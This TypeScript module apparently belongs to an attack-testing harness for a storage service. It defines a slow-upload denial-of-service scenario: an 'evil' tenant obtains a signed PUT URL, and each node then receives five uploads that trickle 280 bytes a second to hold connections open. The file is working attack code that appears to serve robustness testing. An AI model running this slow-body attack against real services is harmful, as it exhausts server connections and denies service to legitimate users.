/** One signed URL: at each node five uploads that deliver their 3,000th byte at once and then 280 bytes a second. */
import type { Attack, AttackTarget } from './attack.ts'
import { ask } from './call.ts'
import { runSlowUploads, type SlowUpload } from './slow-uploads.ts'
import { puts } from './victims.ts'

const UPLOADS_A_NODE = 5
const BODY_BYTES = 4_194_304

export const slowBodies: Attack = {
  id: 'D1',
  title: 'one signed URL, 5 bodies of 280 B/s at each node',
  victim: puts(100_000),
  run: async (target, signal) => {
    const query = await signedQuery(target)
    const uploads = target.nodes.flatMap(({ dataUrl }) =>
      Array.from({ length: UPLOADS_A_NODE }, (_, n) =>
        dripping(dataUrl, `/api/v1/signed/photos/slow/${n}${query}`, {}),
      ),
    )
    return runSlowUploads(uploads, signal, { afterMs: 0, next: () => null })
  },
}

/** 280 bytes a second, as 2,800 every ten seconds. */
export function dripping(url: string, path: string, headers: SlowUpload['headers']): SlowUpload {
  const pace = { firstBytes: 3000, pieceBytes: 2800, everyMs: 10_000, delayMs: 0 }
  return { url, path, headers, length: BODY_BYTES, ...pace }
}

async function signedQuery({ nodes: [node], evil }: AttackTarget): Promise<string> {
  const { status, bytes } = await ask(`${node?.dataUrl}/api/v1/sign-url`, {
    method: 'POST',
    headers: { authorization: `Bearer ${evil.token}`, 'content-type': 'application/json' },
    body: Buffer.from(JSON.stringify({ method: 'PUT', bucket: evil.bucket, keyPrefix: 'slow/' })),
  })
  if (status !== 200) throw new Error(`sign-url gave ${status}: ${bytes.toString()}`)
  return `?token=${(JSON.parse(bytes.toString()) as { token: string }).token}`
}
